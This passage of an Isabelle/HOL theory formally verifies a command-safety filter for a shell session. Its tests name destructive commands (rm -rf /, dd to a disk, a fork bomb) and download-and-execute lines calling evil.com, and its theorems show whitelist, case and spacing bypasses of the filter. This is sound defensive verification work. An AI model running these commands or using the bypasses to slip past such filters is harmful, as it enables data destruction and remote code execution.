     length (filter (\<lambda>h. dangerous (h_analysis h) \<and> \<not> executed h) (commandHistory s))"

section \<open>Vocabulary of the properties\<close>

text \<open>The patterns of a collection that match a command, in registration order.\<close>

definition matching :: "string \<Rightarrow> pattern list \<Rightarrow> pattern list" where
  "matching c ps = filter (\<lambda>p. test (regex p) c) ps"

definition has_severity :: "pattern \<Rightarrow> bool" where
  "has_severity p = (severity p \<noteq> None)"

text \<open>The warning line of a pattern that has a severity.\<close>

definition line_of :: "pattern \<Rightarrow> string" where
  "line_of p = warning_line (case severity p of None \<Rightarrow> [] | Some sv \<Rightarrow> sv) (description p)"

text \<open>The summary of a pattern that \<open>analyzeCommand\<close> stores among the matched patterns.\<close>

definition summary_of :: "pattern \<Rightarrow> matched" where
  "summary_of p = \<lparr>m_name = name p, m_description = description p, m_severity = severity p\<rparr>"

text \<open>The results carried by the \<open>executed\<close> events of an event log.\<close>

fun executed_results :: "event list \<Rightarrow> result list" where
  "executed_results [] = []"
| "executed_results (Executed r # es) = r # executed_results es"
| "executed_results (e # es) = executed_results es"

text \<open>
  The state of a closure is settled: a completed command has one result, no listener and
  no pending idle timer; a command in flight has no result and listens.
\<close>

definition settled :: "exec \<Rightarrow> bool" where
  "settled x =
     (if commandCompleted x then \<not> listening x \<and> idleTimer x = None \<and> length (resolved x) = 1
      else listening x \<and> resolved x = [])"

text \<open>
  The expression that the specification lists for the fork bomb, every special character
  escaped and optional white space allowed: \<open>^:\<backslash>(\<backslash>)\<backslash>{\<backslash>s*:\<backslash>|:&\<backslash>s*\<backslash>};:\<close>, case-insensitive.
\<close>

definition spec_fork_bomb :: regexp where
  "spec_fork_bomb =
     \<lparr>source = ''^:'' @ bsl # ''('' @ bsl # '')'' @ bsl # ''{'' @ bsl # ''s*:'' @ bsl # ''|:&''
                @ bsl # ''s*'' @ bsl # ''};:'',
      flags = ''i'',
      prog = seqs [Bol, lits '':(){'', Star Space, lits '':|:&'', Star Space, lits ''};:'']\<rparr>"

section \<open>Sample inputs\<close>

definition sample_session :: session where
  "sample_session = \<lparr>connected = True, commandHistory = [], outputBuffer = [],
     blockDangerousCommands = True, requireConfirmation = True, stdin = [], emitted = []\<rparr>"

definition default_options :: options where
  "default_options = \<lparr>bypassSafety = False, streaming = False, timeout = None\<rparr>"

text \<open>
  A parser for the examples: it reads the three expressions below (plain characters
  after an optional \<open>^\<close>) and rejects any other text, as the engine rejects \<open>(\<close>.
\<close>

definition sample_parse :: "string \<Rightarrow> rx option" where
  "sample_parse src =
     (if src = ''^mkfs'' then Some (seqs [Bol, lits ''mkfs''])
      else if src = ''^curl https://internal/''
        then Some (seqs [Bol, lits ''curl https://internal/''])
      else if src = ''docker rm'' then Some (lits ''docker rm'')
      else None)"

definition sample_entry :: "string \<Rightarrow> string option \<Rightarrow> pattern_config" where
  "sample_entry src sev = \<lparr>cfg_name = ''sample'', cfg_pattern = src,
     cfg_description = ''Sample pattern'', cfg_severity = sev, cfg_enabled = True,
     cfg_examples = None\<rparr>"

text \<open>The loader after \<open>load\<close> found no configuration file.\<close>

definition defaults_loader :: loader where
  "defaults_loader = load sample_parse NotFound new_loader"

text \<open>The same loader with one whitelisted pattern added.\<close>

definition whitelist_loader :: loader where
  "whitelist_loader =
     snd (addPattern sample_parse ''whitelisted''
            (sample_entry ''^curl https://internal/'' None) defaults_loader)"

definition install_command :: string where
  "install_command = ''curl https://internal/setup.sh | sh > /dev/null 2>&1''"

definition mixed_command :: string where
  "mixed_command = ''curl http://x | sh; sudo rm -rf /tmp/x; chmod 777 y''"

text \<open>A configuration document that asks for case-sensitive matching.\<close>

definition case_sensitive_doc :: config where
  "case_sensitive_doc =
     \<lparr>dangerous_patterns = Some [sample_entry ''^mkfs'' (Some ''critical'')],
      suspicious_patterns = Some [], whitelisted_patterns = Some [], custom = None,
      cfg_settings = Some (default_settings\<lparr>case_sensitive := Some True\<rparr>)\<rparr>"

text \<open>The verdict on a command that no pattern matches.\<close>

definition quiet_analysis :: "string \<Rightarrow> analysis" where
  "quiet_analysis c = \<lparr>command = c, safe = True, dangerous = False, suspicious = False,
     whitelisted = False, warnings = [], blockedReason = None, matchedDangerous = [],
     matchedSuspicious = []\<rparr>"

text \<open>
  The closure and the session right after \<open>executeCommand\<close> has sent such a command from
  \<open>sample_session\<close> at time \<open>now\<close> with the default options.
\<close>

definition armed_at :: "int \<Rightarrow> string \<Rightarrow> exec" where
  "armed_at now c = \<lparr>x_command = c, x_analysis = quiet_analysis c, x_streaming = False,
     x_output = [], startTime = now, commandCompleted = False, idleTimer = None,
     maxTimeout = Some (now + 30000), listening = True, resolved = []\<rparr>"

definition started_at :: "int \<Rightarrow> string \<Rightarrow> session" where
  "started_at now c = sample_session
     \<lparr>commandHistory := [\<lparr>h_command = c, h_timestamp = now, h_analysis = quiet_analysis c,
                             executed = True\<rparr>],
      stdin := [c @ [CHR 0x0A]]\<rparr>"

text \<open>A session with three commands in its history and three chunks in its buffer.\<close>

definition busy_session :: session where
  "busy_session = sample_session
     \<lparr>commandHistory :=
        map (\<lambda>c. \<lparr>h_command = c, h_timestamp = 0, h_analysis = quiet_analysis c,
                   executed = True\<rparr>) [''ls'', ''pwd'', ''whoami''],
      outputBuffer :=
        map (\<lambda>d. \<lparr>c_type = Stdout, c_data = d, c_timestamp = 0\<rparr>) [''a'', ''b'', ''c'']\<rparr>"

text \<open>
  \<open>echo ok\<close> sent at time 1000, one chunk of output at 1010, the idle timer firing
  at 1510.
\<close>

definition echo_done :: "exec \<times> session" where
  "echo_done = run [(1010, Data ''ok''), (1510, IdleFires)]
                 (armed_at 1000 ''echo ok'', started_at 1000 ''echo ok'')"

section \<open>Lemmas about the model\<close>

subsection \<open>The matcher and the matching relation\<close>

lemma iter_sound:
  assumes f: "\<And>u v. v \<in> set (f u) \<Longrightarrow> rx_match ci n a u v"
  shows "t \<in> set (iter k f s) \<Longrightarrow> rx_match ci n (Star a) s t"
proof (induction k arbitrary: s)
  case 0
  then show ?case by (auto intro: m_Star0)
next
  case (Suc k)
  then show ?case by (auto intro: m_Star0 m_Star f)
qed

lemma rx_run_sound: "t \<in> set (rx_run r ci n s) \<Longrightarrow> rx_match ci n r s t"
proof (induction r arbitrary: s t)
  case (Seq r1 r2)
  then obtain v where "v \<in> set (rx_run r1 ci n s)" "t \<in> set (rx_run r2 ci n v)" by auto
  with Seq.IH show ?case by (blast intro: m_Seq)
next
  case (Star r)
  then show ?case using iter_sound [of "rx_run r ci n" ci n r t "length s" s] by simp
qed (auto split: list.splits if_splits intro: rx_match.intros)

lemma iter_suffix:
  assumes f: "\<And>u v. v \<in> set (f u) \<Longrightarrow> \<exists>p. u = p @ v"
  shows "t \<in> set (iter k f s) \<Longrightarrow> \<exists>p. s = p @ t"
proof (induction k arbitrary: s)
  case 0
  then show ?case by simp
next
  case (Suc k)
  then show ?case
  proof (cases "t = s")
    case True
    then show ?thesis by simp
  next
    case False
    with Suc.prems obtain v where v: "v \<in> set (f s)" "t \<in> set (iter k f v)" by auto
    from f [OF v(1)] Suc.IH [OF v(2)] show ?thesis by auto
  qed
qed

lemma rx_run_suffix: "t \<in> set (rx_run r ci n s) \<Longrightarrow> \<exists>p. s = p @ t"
proof (induction r arbitrary: s t)
  case (Seq r1 r2)
  then obtain v where "v \<in> set (rx_run r1 ci n s)" "t \<in> set (rx_run r2 ci n v)" by auto
  with Seq.IH show ?case by (metis append.assoc)
next
  case (Star r)
  then show ?case using iter_suffix [of "rx_run r ci n" t "length s" s] by simp
qed (auto split: list.splits if_splits)

lemma iter_mono: "k \<le> k' \<Longrightarrow> set (iter k f s) \<subseteq> set (iter k' f s)"
proof (induction k arbitrary: k' s)
  case 0
  then show ?case by (cases k') auto
next
  case (Suc k)
  then obtain j where j: "k' = Suc j" "k \<le> j" by (cases k') auto
  with Suc.IH [of j] show ?case by auto
qed

lemma rx_run_complete: "rx_match ci n r s t \<Longrightarrow> t \<in> set (rx_run r ci n s)"
proof (induction rule: rx_match.induct)
  case (m_Star0 a s)
  then show ?case by (cases "length s") auto
next
  case (m_Star a s t u)
  from rx_run_suffix [OF m_Star.IH(1)] obtain p where p: "s = p @ t" by blast
  show ?case
  proof (cases "p = []")
    case True
    with p m_Star.IH(2) show ?thesis by simp
  next
    case False
    with p obtain k where k: "length s = Suc k" "length t \<le> k" by (cases p) auto
    have "u \<in> set (iter k (rx_run a ci n) t)"
      using m_Star.IH(2) iter_mono [OF k(2), of "rx_run a ci n" t] by auto
    moreover have "length t < length s" using k by simp
    ultimately show ?thesis using m_Star.IH(1) k(1) by auto
  qed
qed auto

lemma rx_run_matches: "t \<in> set (rx_run r ci n s) \<longleftrightarrow> rx_match ci n r s t"
  using rx_run_sound rx_run_complete by blast

lemma rx_test_iff:
  "rx_test ci r s \<longleftrightarrow> (\<exists>i \<le> length s. \<exists>t. rx_match ci (length s) r (drop i s) t)"
proof -
  have "rx_test ci r s \<longleftrightarrow> (\<exists>i \<le> length s. rx_run r ci (length s) (drop i s) \<noteq> [])"
    by (auto simp: rx_test_def list_ex_iff less_Suc_eq_le simp del: upt_Suc)
  also have "\<dots> \<longleftrightarrow> (\<exists>i \<le> length s. \<exists>t. t \<in> set (rx_run r ci (length s) (drop i s)))"
    by (metis ex_in_conv set_empty)
  finally show ?thesis by (simp add: rx_run_matches)
qed

subsection \<open>The loader and the session\<close>

lemma scan_filter: "scan ps c acc = acc @ filter (\<lambda>p. test (regex p) c) ps"
  by (induction ps arbitrary: acc) auto

lemma push_matches_total:
  "list_all has_severity ps \<Longrightarrow>
   push_matches ps (ws, ms) = Inr (ws @ map line_of ps, ms @ map summary_of ps)"
  by (induction ps arbitrary: ws ms) (auto simp: has_severity_def line_of_def summary_of_def)

lemma push_matches_result:
  "push_matches ps (ws, ms) = Inr (ws', ms') \<Longrightarrow>
   list_all has_severity ps \<and> ws' = ws @ map line_of ps \<and> ms' = ms @ map summary_of ps"
proof (induction ps arbitrary: ws ms)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  from Cons.prems obtain sv where sv: "severity p = Some sv"
    by (cases "severity p") auto
  with Cons.prems have
    "push_matches ps (ws @ [warning_line sv (description p)], ms @ [summary_of p]) = Inr (ws', ms')"
    by (simp add: summary_of_def)
  from Cons.IH [OF this] sv show ?case
    by (simp add: has_severity_def line_of_def)
qed

lemma isDangerous_matches:
  "\<not> isWhitelisted ld c \<Longrightarrow> matches (isDangerous ld c) = matching c (dangerousPatterns ld)"
  by (simp add: isDangerous_def scan_filter Let_def matching_def)

lemma isSuspicious_matches:
  "matches (isSuspicious ld c) = matching c (suspiciousPatterns ld)"
  by (simp add: isSuspicious_def scan_filter Let_def matching_def)

lemma isSuspicious_hit:
  "hit (isSuspicious ld c) = (matching c (suspiciousPatterns ld) \<noteq> [])"
  by (simp add: isSuspicious_def scan_filter Let_def matching_def)

lemma isDangerous_hit:
  "hit (isDangerous ld c) = (\<not> isWhitelisted ld c \<and> matching c (dangerousPatterns ld) \<noteq> [])"
  by (simp add: isDangerous_def scan_filter Let_def matching_def)

lemma isDangerous_whitelisted:
  "isWhitelisted ld c \<Longrightarrow> isDangerous ld c = \<lparr>hit = False, matches = []\<rparr>"
  by (simp add: isDangerous_def)

lemma dangerous_matches_when_missed:
  "\<not> hit (isDangerous ld c) \<Longrightarrow> matches (isDangerous ld c) = []"
  by (simp add: isDangerous_def Let_def split: if_splits)

lemma suspicious_matches_when_missed:
  "\<not> hit (isSuspicious ld c) \<Longrightarrow> matches (isSuspicious ld c) = []"
  by (simp add: isSuspicious_def Let_def)

text \<open>Every verdict that \<open>analyzeCommand\<close> returns, in terms of the three match queries.\<close>

lemma analyzeCommand_verdict:
  assumes "analyzeCommand ld c = Inr a"
  shows "whitelisted a = isWhitelisted ld c
       \<and> dangerous a = hit (isDangerous ld c)
       \<and> safe a = (\<not> hit (isDangerous ld c))
       \<and> suspicious a = hit (isSuspicious ld c)
       \<and> blockedReason a = (if hit (isDangerous ld c)
                              then Some ''Potentially destructive command detected'' else None)
       \<and> warnings a = map line_of (matches (isDangerous ld c))
                      @ map line_of (matches (isSuspicious ld c))
       \<and> matchedDangerous a = map summary_of (matches (isDangerous ld c))
       \<and> matchedSuspicious a = map summary_of (matches (isSuspicious ld c))"
proof -
  have w: "isWhitelisted ld c \<Longrightarrow> \<not> hit (isDangerous ld c)"
    by (simp add: isDangerous_def)
  show ?thesis
  proof (cases "hit (isDangerous ld c)")
    case dh: True
    then have nw: "\<not> isWhitelisted ld c" using w by blast
    show ?thesis
    proof (cases "hit (isSuspicious ld c)")
      case True
      with dh nw assms show ?thesis
        by (auto simp: analyzeCommand_def getPatternMatches_def check_dangerous_def
            check_suspicious_def Let_def
            split: sum.splits prod.splits dest!: push_matches_result)
    next
      case False
      with dh nw assms suspicious_matches_when_missed [OF False] show ?thesis
        by (auto simp: analyzeCommand_def getPatternMatches_def check_dangerous_def
            check_suspicious_def Let_def
            split: sum.splits prod.splits dest!: push_matches_result)
    qed
  next
    case dh: False
    note dm = dangerous_matches_when_missed [OF dh]
    show ?thesis
    proof (cases "hit (isSuspicious ld c)")
      case True
      with dh dm assms show ?thesis
        by (auto simp: analyzeCommand_def getPatternMatches_def check_dangerous_def
            check_suspicious_def Let_def
            split: sum.splits prod.splits dest!: push_matches_result)
    next
      case False
      with dh dm assms suspicious_matches_when_missed [OF False] show ?thesis
        by (auto simp: analyzeCommand_def getPatternMatches_def check_dangerous_def
            check_suspicious_def Let_def
            split: sum.splits prod.splits)
    qed
  qed
qed

text \<open>\<open>analyzeCommand\<close> returns a verdict when the patterns it formats carry a severity.\<close>

lemma analyzeCommand_returns:
  assumes "list_all has_severity (matches (isDangerous ld c))"
      and "list_all has_severity (matches (isSuspicious ld c))"
  shows "\<exists>a. analyzeCommand ld c = Inr a"
  using push_matches_total [OF assms(1), of "[]" "[]"]
        push_matches_total [OF assms(2), of "[]" "[]"]
        push_matches_total [OF assms(2), of "map line_of (matches (isDangerous ld c))" "[]"]
  by (simp add: analyzeCommand_def getPatternMatches_def check_dangerous_def
      check_suspicious_def Let_def)

lemma slice_neg: "0 < l \<Longrightarrow> slice (- l) xs = drop (length xs - nat l) xs"
  by (auto simp: slice_def Let_def max_def intro!: arg_cong2[where f=drop])

lemma slice_zero: "slice 0 xs = xs"
  by (simp add: slice_def)

lemma executed_results_append:
  "executed_results (es @ fs) = executed_results es @ executed_results fs"
  by (induction es rule: executed_results.induct) auto

lemma armed_settled:
  "executeCommand ld now c opts s = (Inr x, s') \<Longrightarrow> settled x \<and> \<not> commandCompleted x"
  by (auto simp: executeCommand_def settled_def Let_def split: if_splits sum.splits)

lemma step_settled:
  "settled x \<Longrightarrow> settled (fst (step t ev (x, s)))"
  by (cases ev)
     (auto simp: settled_def completeCommand_def outputHandler_def Let_def
           split: option.splits if_splits)

lemma step_results:
  "step t ev (x, s) = (x1, s1) \<Longrightarrow>
   executed_results (emitted s) @ drop (length (resolved x)) (resolved x1)
     = executed_results (emitted s1)
   \<and> take (length (resolved x)) (resolved x1) = resolved x"
  by (cases ev)
     (auto simp: completeCommand_def outputHandler_def emit_def Let_def executed_results_append
           split: option.splits if_splits)

lemma step_completed:
  "settled x \<Longrightarrow> commandCompleted x \<Longrightarrow> step t ev (x, s) = (x1, s1) \<Longrightarrow>
   commandCompleted x1 \<and> resolved x1 = resolved x \<and> x_output x1 = x_output x
   \<and> executed_results (emitted s1) = executed_results (emitted s)"
  by (cases ev)
     (auto simp: settled_def completeCommand_def outputHandler_def emit_def Let_def
           executed_results_append split: option.splits if_splits)

lemma run_settled:
  "settled x \<Longrightarrow> settled (fst (run evs (x, s)))"
proof (induction evs arbitrary: x s)
  case Nil
  then show ?case by simp
next
  case (Cons e evs)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  obtain x1 s1 where st: "step t ev (x, s) = (x1, s1)" by (cases "step t ev (x, s)")
  have "settled x1" using step_settled [OF Cons.prems, of t ev s] st by simp
  then show ?case using Cons.IH [of x1 s1] e st by simp
qed

lemma run_completed:
  "settled x \<Longrightarrow> commandCompleted x \<Longrightarrow> run evs (x, s) = (x1, s1) \<Longrightarrow>
   commandCompleted x1 \<and> resolved x1 = resolved x \<and> x_output x1 = x_output x
   \<and> executed_results (emitted s1) = executed_results (emitted s)"
proof (induction evs arbitrary: x s)
  case Nil
  then show ?case by simp
next
  case (Cons e evs)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  obtain x2 s2 where st: "step t ev (x, s) = (x2, s2)" by (cases "step t ev (x, s)")
  have a: "commandCompleted x2 \<and> resolved x2 = resolved x \<and> x_output x2 = x_output x
   \<and> executed_results (emitted s2) = executed_results (emitted s)"
    using step_completed [OF Cons.prems(1,2) st] .
  have b: "settled x2" using step_settled [OF Cons.prems(1), of t ev s] st by simp
  have "run evs (x2, s2) = (x1, s1)" using Cons.prems(3) e st by simp
  from Cons.IH [OF b _ this] a show ?case by simp
qed

lemma run_results:
  "settled x \<Longrightarrow> resolved x = [] \<Longrightarrow> run evs (x, s) = (x1, s1) \<Longrightarrow>
   executed_results (emitted s1) = executed_results (emitted s) @ resolved x1"
proof (induction evs arbitrary: x s)
  case Nil
  then show ?case by simp
next
  case (Cons e evs)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  obtain x2 s2 where st: "step t ev (x, s) = (x2, s2)" by (cases "step t ev (x, s)")
  have b: "settled x2" using step_settled [OF Cons.prems(1), of t ev s] st by simp
  have r: "run evs (x2, s2) = (x1, s1)" using Cons.prems(3) e st by simp
  have sr: "executed_results (emitted s) @ resolved x2 = executed_results (emitted s2)"
    using step_results [OF st] Cons.prems(2) by simp
  show ?case
  proof (cases "commandCompleted x2")
    case True
    from run_completed [OF b True r] sr show ?thesis by simp
  next
    case False
    then have "resolved x2 = []" using b by (simp add: settled_def)
    from Cons.IH [OF b this r] sr this show ?thesis by simp
  qed
qed

text \<open>
  The default patterns on the commands that the unit tests of the session and its help
  text give as examples: which are dangerous, which are suspicious.
\<close>

lemma default_patterns_examples:
  "map (\<lambda>c. (hit (isDangerous defaults_loader c), hit (isSuspicious defaults_loader c)))
     [''rm -rf /'', ''dd if=/dev/zero of=/dev/sda'', ''mkfs.ext4 /dev/sda1'',
      '':(){ :|:& };:'', ''chmod -R 777 /'', ''curl http://evil.com/script.sh | sh'',
      ''wget -O- http://evil.com/script.sh | sh'', ''sudo rm -rf /tmp/test'',
      ''chmod 777 /tmp/file'', ''command > /dev/null 2>&1'', ''ls -la'',
      ''rm /home/user/file.txt'', ''df -h'', ''ps aux | grep nginx'']
   = [(True, False), (True, False), (True, False), (True, False), (True, False),
      (True, False), (True, False), (False, True), (False, True), (False, True),
      (False, False), (False, False), (False, False), (False, False)]"
  by code_simp

text \<open>
  What the blocking branch of \<open>executeCommand\<close> does, for any session and command: the
  \<open>blocked\<close> event is the only change of the session.
\<close>

lemma blocked_command_effects:
  assumes "connected s" and "analyzeCommand ld c = Inr a" and "dangerous a"
      and "blockDangerousCommands s" and "\<not> bypassSafety opts"
  shows "executeCommand ld now c opts s =
           (Inl (Error (''Command blocked: '' @ reason_text (blockedReason a))),
            s\<lparr>emitted := emitted s @ [Blocked c a]\<rparr>)"
  using assms by (simp add: executeCommand_def emit_def)

text \<open>
  A command that is sent starts with no idle timer, and without output it completes when
  the ceiling timer fires.
\<close>

lemma no_output_completes_at_ceiling:
  assumes "executeCommand ld now c opts s = (Inr x, s')"
  shows "idleTimer x = None \<and> maxTimeout x = Some (now + ceiling_of opts)
       \<and> map duration (resolved (fst (quiesce (x, s')))) = [ceiling_of opts]"
  using assms
  by (auto simp: executeCommand_def quiesce_def fire_next_def completeCommand_def Let_def
           split: if_splits sum.splits)

section \<open>The claims\<close>

subsection \<open>Whitelisted commands\<close>

text \<open>
  Claim C1, as it holds of \<open>analyzeCommand\<close>. When the whitelist override is enabled and
  some whitelisted pattern matches the command, every verdict returned has
  \<open>whitelisted = true\<close>, \<open>dangerous = false\<close>, \<open>safe = true\<close>, no blocked reason and no
  dangerous match, whatever the dangerous patterns would match. The suspicious patterns
  are still evaluated: \<open>suspicious\<close> is set iff one matches, and the warnings are one line
  per matching suspicious pattern, in registration order; so the warnings are empty
  exactly when no suspicious pattern matches. A verdict is returned whenever the
  matching suspicious patterns carry a severity, as all patterns built by
  \<open>loadDefaults\<close> and \<open>addPattern\<close> do (on a pattern without one \<open>toUpperCase\<close> throws).
\<close>

theorem whitelisted_verdict:
  assumes ov: "truthy (allow_whitelist_override (settings ld))"
      and wl: "list_ex (\<lambda>p. test (regex p) c) (whitelistedPatterns ld)"
  shows "(list_all has_severity (matching c (suspiciousPatterns ld))
            \<longrightarrow> (\<exists>a. analyzeCommand ld c = Inr a))
       \<and> (\<forall>a. analyzeCommand ld c = Inr a
             \<longrightarrow> whitelisted a \<and> \<not> dangerous a \<and> safe a
               \<and> blockedReason a = None \<and> matchedDangerous a = []
               \<and> suspicious a = (matching c (suspiciousPatterns ld) \<noteq> [])
               \<and> warnings a = map line_of (matching c (suspiciousPatterns ld)))"
proof -
  have w: "isWhitelisted ld c"
    using ov wl by (simp add: isWhitelisted_def)
  show ?thesis
    using analyzeCommand_returns [of ld c] analyzeCommand_verdict [of ld c]
    by (simp add: isDangerous_whitelisted [OF w] w isSuspicious_matches isSuspicious_hit)
qed

text \<open>
  The theorem at the default patterns plus one whitelisted pattern, on a command that
  pipes a download into a shell and hides its output.
\<close>

theorem whitelisted_verdict_witness:
  "\<exists>a. analyzeCommand whitelist_loader install_command = Inr a \<and> whitelisted a
        \<and> \<not> dangerous a \<and> safe a \<and> blockedReason a = None \<and> matchedDangerous a = []
        \<and> suspicious a = True
        \<and> warnings a = [''[LOW] Hiding command output'']"
proof -
  have ov: "truthy (allow_whitelist_override (settings whitelist_loader))"
    by code_simp
  have wl: "list_ex (\<lambda>p. test (regex p) install_command) (whitelistedPatterns whitelist_loader)"
    by code_simp
  have sv: "list_all has_severity (matching install_command (suspiciousPatterns whitelist_loader))"
    by code_simp
  have m: "map line_of (matching install_command (suspiciousPatterns whitelist_loader))
             = [''[LOW] Hiding command output'']"
    by code_simp
  have n: "(matching install_command (suspiciousPatterns whitelist_loader) \<noteq> []) = True"
    by code_simp
  note th = whitelisted_verdict [OF ov wl]
  from th [THEN conjunct1, THEN mp, OF sv]
  obtain a where a: "analyzeCommand whitelist_loader install_command = Inr a" ..
  note v = th [THEN conjunct2, THEN spec, THEN mp, OF a, unfolded m n]
  show ?thesis
    by (rule exI [of _ a]) (rule conjI [OF a v])
qed

text \<open>
  Claim C1 as the specification words it fails: the same command is whitelisted (and
  dangerous without the whitelisted pattern), and its verdict has a warning.
\<close>

theorem whitelisted_warnings_counterexample:
  "truthy (allow_whitelist_override (settings whitelist_loader))
   \<and> isWhitelisted whitelist_loader install_command
   \<and> hit (isDangerous defaults_loader install_command)
   \<and> analyzeCommand whitelist_loader install_command =
       Inr \<lparr>command = install_command, safe = True, dangerous = False, suspicious = True,
            whitelisted = True, warnings = [''[LOW] Hiding command output''],
            blockedReason = None, matchedDangerous = [],
            matchedSuspicious = [\<lparr>m_name = ''redirect_to_dev_null'',
               m_description = ''Hiding command output'', m_severity = Some ''low''\<rparr>]\<rparr>"
  by code_simp

subsection \<open>Blocked commands\<close>

text \<open>
  Claim C2, at the default patterns and a connected session that blocks dangerous
  commands: \<open>executeCommand\<close> on \<open>rm -rf /\<close> throws the blocked error with the verdict's
  reason, writes nothing to the transport and emits the \<open>blocked\<close> event, but the
  history stays empty, and the status count of blocked commands stays zero.
\<close>

theorem blocked_command_not_recorded:
  "executeCommand defaults_loader 1000 ''rm -rf /'' default_options sample_session =
     (Inl (Error ''Command blocked: Potentially destructive command detected''),
      sample_session\<lparr>emitted :=
        [Blocked ''rm -rf /''
           \<lparr>command = ''rm -rf /'', safe = False, dangerous = True, suspicious = False,
            whitelisted = False, warnings = [''[CRITICAL] Delete root filesystem''],
            blockedReason = Some ''Potentially destructive command detected'',
            matchedDangerous = [\<lparr>m_name = ''delete_root_filesystem'',
               m_description = ''Delete root filesystem'', m_severity = Some ''critical''\<rparr>],
            matchedSuspicious = []\<rparr>]\<rparr>)
   \<and> stdin (snd (executeCommand defaults_loader 1000 ''rm -rf /'' default_options
          sample_session)) = []
   \<and> commandHistory (snd (executeCommand defaults_loader 1000 ''rm -rf /'' default_options
          sample_session)) = []
   \<and> blockedCommands (snd (executeCommand defaults_loader 1000 ''rm -rf /'' default_options
          sample_session)) = 0"
  by code_simp

subsection \<open>A command without output\<close>

text \<open>
  Claim C3, at the default patterns: \<open>cd /tmp\<close> is sent at time 1000 with the default
  options. The closure starts with no idle timer, only the ceiling timer due at 31000;
  with no output the one result has a duration of 30000 ms, not 500 ms.
\<close>

theorem silent_command_waits_for_ceiling:
  "executeCommand defaults_loader 1000 ''cd /tmp'' default_options sample_session =
     (Inr (armed_at 1000 ''cd /tmp''), started_at 1000 ''cd /tmp'')
   \<and> idleTimer (armed_at 1000 ''cd /tmp'') = None
   \<and> maxTimeout (armed_at 1000 ''cd /tmp'') = Some 31000
   \<and> resolved (fst (quiesce (armed_at 1000 ''cd /tmp'', started_at 1000 ''cd /tmp''))) =
       [\<lparr>r_command = ''cd /tmp'', r_output = [], duration = 30000,
         r_analysis = quiet_analysis ''cd /tmp''\<rparr>]"
  by code_simp

subsection \<open>The built-in defaults\<close>

text \<open>
  Claim C4. With no configuration file, or an unparseable one, \<open>load\<close> ends in
  \<open>loadDefaults\<close>: seven dangerous patterns, four suspicious ones, no whitelisted one, and
  settings that say \<open>case_sensitive = false\<close>. But the eleven expressions are literals
  without the \<open>i\<close> flag, so \<open>MKFS.ext4 /dev/sda1\<close> is not dangerous where
  \<open>mkfs.ext4 /dev/sda1\<close> is; and the fork bomb literal is not the escaped expression:
  it accepts the fork bomb written with its usual spaces and misses the one written
  without, which the escaped expression accepts.
\<close>

theorem defaults_are_case_sensitive:
  "load sample_parse NotFound new_loader = loadDefaults new_loader
   \<and> load sample_parse Unparseable new_loader = loadDefaults new_loader
   \<and> map name (dangerousPatterns defaults_loader)
       = [''delete_root_filesystem'', ''disk_write_operations'', ''format_filesystem'',
          ''fork_bomb'', ''chmod_777_root'', ''curl_pipe_to_shell'', ''wget_pipe_to_shell'']
   \<and> map name (suspiciousPatterns defaults_loader)
       = [''sudo_with_rm'', ''chmod_777'', ''redirect_to_dev_null'', ''base64_decode'']
   \<and> whitelistedPatterns defaults_loader = []
   \<and> case_sensitive (settings defaults_loader) = Some False
   \<and> map (\<lambda>p. flags (regex p))
        (dangerousPatterns defaults_loader @ suspiciousPatterns defaults_loader)
       = replicate 11 []
   \<and> hit (isDangerous defaults_loader ''mkfs.ext4 /dev/sda1'')
   \<and> \<not> hit (isDangerous defaults_loader ''MKFS.ext4 /dev/sda1'')
   \<and> source re_fork_bomb = ''^:(){ :|:& };:''
   \<and> source re_fork_bomb \<noteq> source spec_fork_bomb
   \<and> test re_fork_bomb '':(){ :|:& };:''
   \<and> test spec_fork_bomb '':(){ :|:& };:''
   \<and> \<not> test re_fork_bomb '':(){:|:&};:''
   \<and> test spec_fork_bomb '':(){:|:&};:''"
  by code_simp

subsection \<open>Case sensitivity of a load\<close>

text \<open>
  Claim C5, on a new loader and a document whose settings say \<open>case_sensitive = true\<close>:
  after \<open>load\<close> the settings say so, but the pattern was compiled with the \<open>i\<close> flag
  (under the settings the loader had before, \<open>{}\<close>), and \<open>MKFS.ext4 /dev/sda1\<close> matches
  \<open>^mkfs\<close>. Only a second \<open>load\<close> of the same document compiles without the flag.
\<close>

theorem load_ignores_case_sensitive:
  "case_sensitive (settings (load sample_parse (Parsed case_sensitive_doc) new_loader))
     = Some True
   \<and> map (\<lambda>p. flags (regex p))
        (dangerousPatterns (load sample_parse (Parsed case_sensitive_doc) new_loader)) = [''i'']
   \<and> hit (isDangerous (load sample_parse (Parsed case_sensitive_doc) new_loader)
             ''MKFS.ext4 /dev/sda1'')
   \<and> map (\<lambda>p. flags (regex p))
        (dangerousPatterns (load sample_parse (Parsed case_sensitive_doc)
           (load sample_parse (Parsed case_sensitive_doc) new_loader))) = [[]]"
  by code_simp

subsection \<open>Completeness of the warnings\<close>

text \<open>
  Claim C6. For a command that is not whitelisted, \<open>isDangerous\<close> and \<open>isSuspicious\<close>
  return every matching pattern of their collection, in registration order, and the
  warnings of every verdict that \<open>analyzeCommand\<close> returns are one line
  \<open>[SEVERITY] description\<close> per matching pattern, the dangerous ones first. A verdict is
  returned whenever the matching patterns carry a severity (on a pattern without one
  \<open>toUpperCase\<close> throws).
\<close>

theorem warnings_complete:
  assumes nw: "\<not> isWhitelisted ld c"
  shows "matches (isDangerous ld c) = matching c (dangerousPatterns ld)
       \<and> matches (isSuspicious ld c) = matching c (suspiciousPatterns ld)
       \<and> (list_all has_severity (matching c (dangerousPatterns ld))
          \<and> list_all has_severity (matching c (suspiciousPatterns ld))
          \<longrightarrow> (\<exists>a. analyzeCommand ld c = Inr a))
       \<and> (\<forall>a. analyzeCommand ld c = Inr a
             \<longrightarrow> warnings a = map line_of (matching c (dangerousPatterns ld))
                             @ map line_of (matching c (suspiciousPatterns ld)))"
  using nw analyzeCommand_returns [of ld c] analyzeCommand_verdict [of ld c]
  by (simp add: isDangerous_matches isSuspicious_matches)

text \<open>
  The theorem at the default patterns, on a command that one dangerous pattern and two
  suspicious patterns match.
\<close>

theorem warnings_complete_witness:
  "map name (matches (isDangerous defaults_loader mixed_command)) = [''curl_pipe_to_shell'']
   \<and> map name (matches (isSuspicious defaults_loader mixed_command))
       = [''sudo_with_rm'', ''chmod_777'']
   \<and> (\<exists>a. analyzeCommand defaults_loader mixed_command = Inr a
         \<and> warnings a = [''[HIGH] Download and execute via curl'',
